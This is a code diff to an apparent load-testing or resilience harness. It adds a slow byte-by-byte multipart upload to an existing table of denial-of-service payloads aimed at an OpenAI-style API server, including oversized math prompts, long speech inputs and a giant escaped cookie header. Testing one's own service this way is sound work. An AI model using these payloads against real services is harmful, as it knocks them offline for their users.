@@ -20,7 +20,7 @@ import socket
 import subprocess
 import sys
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from concurrent.futures import ThreadPoolExecutor
 
 import httpx
@@ -53,6 +53,14 @@ UPGRADE = (
 JSON = {"Content-Type": "application/json"}
 
 
+def upload() -> Iterator[bytes]:
+    """A form that begins, and goes on by single bytes."""
+    yield b'--b\r\nContent-Disposition: form-data; name="file"; filename="a"\r\n\r\n' + PIECE
+    end_s = time.monotonic() + ATTACK_S
+    while time.monotonic() < end_s:
+        yield b"x"
+
+
 def chat(content: object, **fields: object) -> tuple[str, str, bytes, dict[str, str]]:
     messages = [{"role": "user", "content": content}]
     body = json.dumps({"model": "gpt-4o", "messages": messages, **fields}).encode()
@@ -64,7 +72,8 @@ def speech(text: str) -> tuple[str, str, bytes, dict[str, str]]:
     return "POST", "/v1/audio/speech", body, JSON
 
 
-ATTACKS = {
+Body = bytes | Callable[[], Iterator[bytes]]
+ATTACKS: dict[str, tuple[str, str, Body, dict[str, str]]] = {
     "sum": chat("What is " + "+".join(f"1/{prime}^480" for prime in PRIMES)[:3900] + "?"),
     "power": chat("What is " + "*".join(["9^900"] * 600) + "?"),
     "repeat": chat("Repeat after me: " + "1 a " * 1019, stream=True, modalities=["text", "audio"],
@@ -73,6 +82,8 @@ ATTACKS = {
     "doubt": speech("?!" * 2048),
     "half_doubt": speech("½" * 4096),
     "messages": ("POST", "/v1/chat/completions", MANY, JSON),
+    "upload": ("POST", "/v1/audio/transcriptions", upload,
+        {"Content-Type": "multipart/form-data; boundary=b"}),
     "cookie": ("GET", "/config", b"", {"Cookie": 'a="' + '\\"' * 7500 + '"'}),
     "other_page": ("GET", "/?page=x", b"", {}),
     "long_static": ("GET", "/static/" + "a" * 300, b"", {}),
@@ -122,14 +133,15 @@ def run(args: argparse.Namespace, report: Report) -> None:
 
 
 def statuses(
-    client: httpx.Client, url: str, method: str, body: bytes, headers: dict[str, str]
+    client: httpx.Client, url: str, method: str, body: Body, headers: dict[str, str]
 ) -> list[int]:
     """Of one answer after the other, each by a connection of its own, for ATTACK_S; 0 where none
     comes."""
     found, end_s = list[int](), time.monotonic() + ATTACK_S
     while not found or time.monotonic() < end_s:
         try:
-            with client.stream(method, url, content=body, headers=headers) as answer:
+            content = body() if callable(body) else body
+            with client.stream(method, url, content=content, headers=headers) as answer:
                 found.append(answer.status_code)
         except httpx.HTTPError:
             found.append(0)
